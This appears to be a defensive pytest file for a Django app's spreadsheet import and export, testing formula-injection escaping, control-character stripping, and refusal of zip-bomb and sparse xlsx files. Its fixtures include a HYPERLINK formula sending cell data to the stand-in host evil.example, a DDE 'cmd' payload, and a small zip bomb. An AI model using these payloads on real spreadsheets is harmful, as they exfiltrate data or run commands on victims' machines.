"""Hostile spreadsheets, in and out: formula injection in exports, characters that break xlsx, sparse and
bomb xlsx that would blow the process up, CSV with bare CR, NUL and broken quoting; never a server error."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
import zipfile
from decimal import Decimal
from pathlib import Path
from xml.sax.saxutils import escape

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Font
from python_calamine import CalamineWorkbook

from maharat.access.models import Account
from maharat.common.reading import UnreadableFile, rows
from maharat.common.tabular import Table, to_csv, to_xlsx
from maharat.exchange.models import ImportBatch
from maharat.exchange.services import start_import
from maharat.factories import TraineeFactory, make_unit, national_code
from maharat.org.models import Unit
from maharat.people.models import Trainee

HEADERS = ["کد ملی", "نام", "نام خانوادگی", "جنسیت", "تاریخ تولد", "محل سکونت", "کد واحد ثبت‌کننده"]
FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"جزئیات")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
            "\t=1+1", "\r=1+1", "  =1+1"]
MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"

pytestmark = pytest.mark.django_db


@pytest.fixture
def planner(django_user_model):  # type: ignore[no-untyped-def]
    user = django_user_model.objects.create_user("hostile", password="hostile-pass-123")
    Account.objects.create(user=user, role="hq_planner", unit=Unit.objects.get(code="IR"))
    return user


def trainee(i: int, unit: Unit, first: str = "زهرا") -> list[str]:
    return [national_code(i), first, f"کریمی{i}", "زن", "1375/02/15", "شهری", unit.code]


def xlsx_bytes(rows: list[list[object]], far: str | None = None, blank_to: int | None = None) -> bytes:
    """Headers and rows; `far` puts one more value at that cell, `blank_to` formats blank cells down to that row."""
    wb = Workbook()
    ws = wb.active
    for row in [HEADERS, *rows]:
        ws.append(row)
    if far:
        ws[far] = "x"
    if blank_to:
        for r in range(len(rows) + 2, blank_to + 1, 997):  # formatted, never filled: what Excel writes as <c/>
            ws.cell(row=r, column=7).font = Font(bold=True)
        ws.cell(row=blank_to, column=7).font = Font(bold=True)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def with_sheet(sheet_xml: str) -> bytes:
    """A real workbook whose first sheet is replaced by this XML (what other generators write)."""
    wb = Workbook()
    base = io.BytesIO()
    wb.save(base)
    out = io.BytesIO()
    with zipfile.ZipFile(base) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = sheet_xml.encode() if info.filename == "xl/worksheets/sheet1.xml" else src.read(info)
            dst.writestr(info.filename, data)
    return out.getvalue()


def inline(text: str, ref: str = "", prefix: str = "") -> str:
    r = f' r="{ref}"' if ref else ""
    return f'<{prefix}c{r} t="inlineStr"><{prefix}is><{prefix}t>{escape(text)}</{prefix}t></{prefix}is></{prefix}c>'


def positional_sheet(table: list[list[str]]) -> str:
    """Cells without their r="B7" reference, placed by counting (some generators write them so)."""
    body = "".join("<row>" + "".join(inline(v) for v in row) + "</row>" for row in table)
    return f'<worksheet xmlns="{MAIN}"><sheetData>{body}</sheetData></worksheet>'


def read_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# ---------------------------------------------------------------- exports: formulas, odd characters


def test_formula_text_is_written_as_text_and_numbers_stay_numbers() -> None:
    table = Table(title="آزمون", headers=["متن", "عدد"],
                  rows=[[text, -5] for text in FORMULAS] + [["-12.50", -2.5], ["زهرا", Decimal("-3.25")]])
    book = io.BytesIO(to_xlsx(table))
    with zipfile.ZipFile(book) as z:
        assert b"<f>" not in z.read("xl/worksheets/sheet1.xml")  # not one formula in the file
    ws = load_workbook(book).active
    for number, text in enumerate(FORMULAS, start=2):
        cell = ws.cell(row=number, column=1)
        assert cell.value == text.replace("\r", "\n"), text  # XML reads a CR back as LF
        assert cell.data_type == "s" and cell.quotePrefix, text
    plain = ws.cell(row=len(FORMULAS) + 2, column=1)
    assert plain.value == "-12.50" and plain.data_type == "s" and not plain.quotePrefix  # a number as text
    numbers = [ws.cell(row=r, column=2).value for r in range(2, ws.max_row + 1)]
    assert numbers == [-5] * len(FORMULAS) + [-2.5, -3.25]
    assert all(ws.cell(row=r, column=2).data_type == "n" for r in range(2, ws.max_row + 1))

    lines = read_csv(to_csv(table))
    assert [line[0] for line in lines[1:len(FORMULAS) + 1]] == ["'" + text for text in FORMULAS]
    assert lines[-2:] == [["-12.50", "-2.5"], ["زهرا", "-3.25"]]
    assert {line[1] for line in lines[1:len(FORMULAS) + 1]} == {"-5"}


def test_characters_xlsx_cannot_hold_are_dropped_not_fatal() -> None:
    table = Table(title="گزارش: استان/شهر?", headers=["نام\x00", "=شرح"],
                  rows=[["زه\x01را\x0b", "a\x1fb\ufffe"], ["سطر\nدوم\tبا جدول", "x" * 40_000]],
                  notes=["تهیه\x07شده"])
    ws = load_workbook(io.BytesIO(to_xlsx(table))).active
    assert ws.title == "گزارش- استان-شهر-"
    assert [c.value for c in ws[1]] == ["نام", "=شرح"] and ws["B1"].data_type == "s"
    assert [c.value for c in ws[2]] == ["زهرا", "ab"]
    assert ws["A3"].value == "سطر\nدوم\tبا جدول"  # newline and tab are legal and kept
    assert len(ws["B3"].value) == 32_767  # Excel's own limit: a longer cell makes the file unopenable
    assert ws["A5"].value == "تهیهشده"
    assert read_csv(to_csv(table))[:2] == [["نام", "'=شرح"], ["زهرا", "ab"]]


def test_stored_hostile_values_export_through_the_pages_and_survive_a_round_trip(planner, client) -> None:  # type: ignore[no-untyped-def]
    unit = make_unit()
    names = {"=1+1": "-کریمی", "@SUM(A1)": "+98", "زه\x01را": "احمدی\x1f"}
    for i, (first, last) in enumerate(names.items()):
        TraineeFactory(national_code=national_code(900 + i), first_name=first, last_name=last, registered_unit=unit)
    client.force_login(planner)
    url = reverse("import_export", args=["trainees"])
    xlsx = client.get(url)
    assert xlsx.status_code == 200
    ws = load_workbook(io.BytesIO(xlsx.content)).active
    by_name = {ws.cell(row=r, column=2).value: ws.cell(row=r, column=2) for r in range(2, ws.max_row + 1)}
    assert set(by_name) == {"=1+1", "@SUM(A1)", "زهرا"}
    assert by_name["=1+1"].data_type == "s" and by_name["=1+1"].quotePrefix
    exported_csv = client.get(url, {"format": "csv"}).content
    assert "'=1+1" in exported_csv.decode("utf-8-sig") and "'-کریمی" in exported_csv.decode("utf-8-sig")

    for data, name in ((exported_csv, "export.csv"), (xlsx.content, "export.xlsx")):
        Trainee.objects.filter(first_name="زه\x01را").update(first_name="زهرا", last_name="احمدی")
        before = sorted(Trainee.objects.values_list("first_name", "last_name"))
        Trainee.objects.all().delete()
        batch = start_import(user=planner, kind="trainees", file_name=name, data=data, dry_run=False, background=False)
        assert batch.status == "done", batch.problems
        assert sorted(Trainee.objects.values_list("first_name", "last_name")) == before  # no quote added
        assert ("=1+1", "-کریمی") in before


def test_problem_report_of_a_hostile_file_is_inert(planner, client) -> None:  # type: ignore[no-untyped-def]
    unit = make_unit()
    bad = trainee(1, unit)
    bad[0] = FORMULAS[0]
    buffer = io.StringIO()
    csv.writer(buffer).writerows([HEADERS, bad])
    batch = start_import(user=planner, kind="trainees", file_name="t.csv", data=buffer.getvalue().encode(),
                         dry_run=True, background=False)
    assert batch.status == "rejected" and batch.problems[0]["value"] == FORMULAS[0]
    client.force_login(planner)
    url = reverse("import_detail", args=[batch.pk])
    ws = load_workbook(io.BytesIO(client.get(url, {"format": "xlsx"}).content)).active
    assert ws["C2"].value == FORMULAS[0] and ws["C2"].data_type == "s" and ws["C2"].quotePrefix
    assert read_csv(client.get(url, {"format": "csv"}).content)[1][2] == "'" + FORMULAS[0]


# ---------------------------------------------------------------- xlsx input: memory, limits, odd forms


def _refused(planner, data: bytes, fragment: str, name: str = "t.xlsx") -> ImportBatch:  # type: ignore[no-untyped-def]
    batch = start_import(user=planner, kind="trainees", file_name=name, data=data, dry_run=False, background=False)
    assert batch.status == "rejected", batch.problems
    assert fragment in batch.problems[0]["message"], batch.problems
    assert batch.problems[0]["row"] == 0 and Trainee.objects.count() == 0
    return batch


def test_sparse_xlsx_is_refused_naming_the_far_cell(planner) -> None:  # type: ignore[no-untyped-def]
    unit = make_unit()
    data = xlsx_bytes([trainee(1, unit)], far="AX200000")
    assert len(data) < 10_000
    _refused(planner, data, "AX200000")


@pytest.mark.parametrize(("far", "fragment"), [("GS5", "۲۰۰ ستون"), ("A1048577", "۱۰۴۸۵۷۶ ردیف")])
def test_sheets_beyond_the_limits_are_refused(planner, far: str, fragment: str) -> None:  # type: ignore[no-untyped-def]
    header = "".join(inline(h, f"{chr(65 + i)}1") for i, h in enumerate(HEADERS))  # openpyxl would refuse row 1048577
    data = with_sheet(f'<worksheet xmlns="{MAIN}"><sheetData><row r="1">{header}</row>'
                      f'<row r="{far[2:]}">{inline("x", far)}</row></sheetData></worksheet>')
    _refused(planner, data, fragment)


def test_formatted_blank_cells_far_below_the_data_do_not_get_a_file_refused(planner) -> None:  # type: ignore[no-untyped-def]
    unit = make_unit()
    data = xlsx_bytes([trainee(i, unit) for i in range(3)], blank_to=1_048_576)
    assert b'<c r="G1048576" s="1" t="n" />' in zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    batch = start_import(user=planner, kind="trainees", file_name="t.xlsx", data=data, dry_run=False, background=False)
    assert (batch.status, batch.created, Trainee.objects.count()) == ("done", 3, 3)


def test_each_sheet_is_measured_on_its_own(planner) -> None:  # type: ignore[no-untyped-def]
    """A long first sheet and a wide second one are not one sheet both long and wide."""
    unit = make_unit()
    wb = Workbook()
    ws = wb.active
    ws.append(HEADERS)
    ws.append(trainee(1, unit))
    for column, value in enumerate(trainee(2, unit), start=1):
        ws.cell(row=100_000, column=column, value=value)  # far down, but a real row
    wb.create_sheet("یادداشت").append([f"ستون {i}" for i in range(150)])
    out = io.BytesIO()
    wb.save(out)
    batch = start_import(user=planner, kind="trainees", file_name="t.xlsx", data=out.getvalue(), dry_run=False,
                         background=False)
    assert (batch.status, batch.created) == ("done", 2), batch.problems


def test_cells_without_references_are_read_by_counting(planner) -> None:  # type: ignore[no-untyped-def]
    unit = make_unit()
    data = with_sheet(positional_sheet([HEADERS, trainee(1, unit), trainee(2, unit, first="مریم")]))
    batch = start_import(user=planner, kind="trainees", file_name="t.xlsx", data=data, dry_run=False, background=False)
    assert batch.status == "done", batch.problems
    assert sorted(Trainee.objects.values_list("first_name", flat=True)) == ["زهرا", "مریم"]


def test_zip_bomb_and_other_formats_are_refused(planner) -> None:  # type: ignore[no-untyped-def]
    padding = "<!--" + " " * (40 * 1024 * 1024) + "-->"  # 40 MB unpacked, about 40 KB packed
    bomb = with_sheet(f'<worksheet xmlns="{MAIN}">{padding}<sheetData/></worksheet>')
    assert len(bomb) < 200_000
    _refused(planner, bomb, "بیش از اندازه بزرگ")
    cfb = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504  # xls, or an encrypted xlsx
    _refused(planner, cfb, "xlsx", name="t.xls")
    ods = io.BytesIO()
    with zipfile.ZipFile(ods, "w") as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("content.xml", "<office:document-content/>")
    _refused(planner, ods.getvalue(), "xlsx")


def test_nul_and_control_characters_in_xlsx_cells_do_not_reach_the_database(planner) -> None:  # type: ignore[no-untyped-def]
    unit = make_unit()
    data = xlsx_bytes([trainee(1, unit, first="زه_x0000_را_x0001_")])  # how xlsx escapes control characters
    raw = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_index(0).to_python()
    assert raw[1][1] == "زه\x00را\x01"  # ...and what a reader makes of them
    batch = start_import(user=planner, kind="trainees", file_name="t.xlsx", data=data, dry_run=False, background=False)
    assert batch.status == "done", batch.problems
    assert Trainee.objects.get().first_name == "زهرا"


CHILD = r"""
import json, resource, sys
sys.path.insert(0, sys.argv[1])
from maharat.common.reading import UnreadableFile, rows
with open("/proc/self/status") as status:
    size = next(int(line.split()[1]) * 1024 for line in status if line.startswith("VmSize:"))
# The hard bound: past it allocation fails and the child dies, instead of a regression swapping the machine.
resource.setrlimit(resource.RLIMIT_AS, (size + 300 * 1024 * 1024, size + 300 * 1024 * 1024))
data = open(sys.argv[2], "rb").read()
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
try:
    taken, refused = sum(1 for _ in rows(data, sys.argv[2])), ""
except UnreadableFile as exc:
    taken, refused = 0, str(exc)
print(json.dumps({"rows": taken, "refused": refused,
                  "growth_mb": (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024}))
"""


def _sparse_sheet(far: str, prefix: str = "") -> str:
    """A header cell at A1 and `far` (a cell at AX200000), nothing between: 50 x 200,000 cells if laid out densely."""
    p = f"{prefix}:" if prefix else ""
    xmlns = f'xmlns{":" + prefix if prefix else ""}="{MAIN}"'
    return (f'<{p}worksheet {xmlns}><{p}sheetData><{p}row r="1">{inline("کد ملی", "A1", p)}</{p}row>'
            f'<{p}row r="200000">{far}</{p}row></{p}sheetData></{p}worksheet>')


HOSTILE = {
    "sparse": (lambda: xlsx_bytes([], far="AX200000"), True, 0),
    "sparse, prefixed tags": (lambda: with_sheet(_sparse_sheet(inline("x", "AX200000", "x:"), prefix="x")), False, 2),
    "sparse, no references": (lambda: with_sheet(_sparse_sheet("<c/>" * 49 + inline("x"))), False, 2),  # counted
    # Where a naive scan and calamine disagree: calamine takes the last r, and skips a ">" inside quotes.
    "sparse, r given twice": (lambda: with_sheet(_sparse_sheet(inline("x", "A2").replace(
        'r="A2"', 'r="A2" r="AX200000"'))), True, 0),
    "sparse, > inside an attribute": (lambda: with_sheet(_sparse_sheet(inline("x", "AX200000").replace(
        "<c ", '<c foo=">" '))), False, 2),
    "formatted blanks to the last row": (lambda: xlsx_bytes([["1", "2"]] * 3, blank_to=1_048_576), False, 4),
}


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="measures through /proc and RLIMIT_AS")
@pytest.mark.parametrize("label", HOSTILE)
def test_reading_a_small_hostile_xlsx_keeps_memory_bounded(tmp_path: Path, label: str) -> None:
    build, refused, taken = HOSTILE[label]
    data = build()
    assert len(data) < 60_000
    path = tmp_path / "hostile.xlsx"
    path.write_bytes(data)
    done = subprocess.run([sys.executable, "-c", CHILD, str(Path(__file__).parents[3]), str(path)],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr[-2000:]
    result = json.loads(done.stdout)
    assert bool(result["refused"]) is refused and result["rows"] == taken, result
    assert result["growth_mb"] < 40, result  # before the fix: +399 MB for the first of these


# ---------------------------------------------------------------- CSV input


def _csv_text(table: list[list[str]], newline: str) -> str:
    return newline.join(",".join(row) for row in table) + newline


def test_old_mac_line_endings_are_read(planner) -> None:  # type: ignore[no-untyped-def]
    unit = make_unit()
    data = _csv_text([HEADERS, *(trainee(i, unit) for i in range(3))], "\r").encode()
    batch = start_import(user=planner, kind="trainees", file_name="t.csv", data=data, dry_run=False, background=False)
    assert (batch.status, batch.created) == ("done", 3), batch.problems


def test_bare_cr_inside_a_value_is_a_row_problem_not_a_server_error(planner, client) -> None:  # type: ignore[no-untyped-def]
    unit = make_unit()
    broken = trainee(1, unit, first="زه\rرا")
    data = _csv_text([HEADERS, trainee(2, unit), broken], "\r\n").encode()
    client.force_login(planner)
    response = client.post(reverse("import"), {"kind": "trainees", "file": SimpleUploadedFile("t.csv", data)})
    assert response.status_code == 302
    batch = ImportBatch.objects.get()
    # The CR ended the row, as on an old Mac: the two halves are rows 3 and 4, each with its problems.
    assert batch.status == "rejected" and {p["row"] for p in batch.problems} == {3, 4}, batch.problems
    assert "این خانه نباید خالی باشد." in {p["message"] for p in batch.problems}
    assert Trainee.objects.count() == 0


def test_csv_the_reader_cannot_parse_is_refused_in_persian(planner) -> None:  # type: ignore[no-untyped-def]
    data = _csv_text([HEADERS, ['"' + "x" * 200_000]], "\n").encode()  # an open quote swallowing the file
    with pytest.raises(UnreadableFile):
        list(rows(data, "t.csv"))
    _refused(planner, data, "CSV", name="t.csv")


def test_nul_and_control_characters_in_csv_do_not_reach_the_database(planner) -> None:  # type: ignore[no-untyped-def]
    unit = make_unit()
    data = _csv_text([HEADERS, trainee(1, unit, first="زه\x00را\x1b"), trainee(2, unit, first="\x00مریم")], "\n")
    batch = start_import(user=planner, kind="trainees", file_name="t.csv", data=data.encode(), dry_run=False,
                         background=False)
    assert batch.status == "done", batch.problems
    assert sorted(Trainee.objects.values_list("first_name", flat=True)) == ["زهرا", "مریم"]


def test_excel_unicode_text_is_utf16_and_tab_separated(planner) -> None:  # type: ignore[no-untyped-def]
    unit = make_unit()
    text = "\r\n".join("\t".join(row) for row in [HEADERS, trainee(1, unit), trainee(2, unit)])
    batch = start_import(user=planner, kind="trainees", file_name="t.txt", data=text.encode("utf-16"),
                         dry_run=False, background=False)
    assert (batch.status, batch.created) == ("done", 2), batch.problems
